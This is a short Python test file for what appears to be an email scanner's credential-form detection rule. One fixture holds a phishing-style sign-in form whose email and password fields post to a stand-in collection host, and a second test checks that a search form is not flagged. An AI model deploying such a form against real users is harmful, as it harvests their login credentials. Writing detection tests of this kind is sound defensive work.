"""content_credential_form: a password form inside the message."""

from __future__ import annotations

from tests.helpers import finding_ids, make_message, scan_offline


def test_password_form_fires() -> None:
    html = (
        '<form action="https://collect.example.top/p.php" method="post">'
        '<input type="email" name="login"><input type="password" name="pw">'
        '<input type="submit" value="Sign in"></form>'
    )
    result = scan_offline(make_message(text=None, html=html))
    found = [f for f in result.findings if f.id == "CONTENT_CREDENTIAL_FORM"]
    assert len(found) == 1
    assert found[0].evidence["action"] == "https://collect.example.top/p.php"


def test_search_form_is_not_a_credential_form() -> None:
    html = (
        '<form action="https://news.example.org/search"><input type="text" name="q">'
        '<input type="submit" value="Search"></form>'
    )
    ids = finding_ids(scan_offline(make_message(text=None, html=html)))
    assert "CONTENT_CREDENTIAL_FORM" not in ids
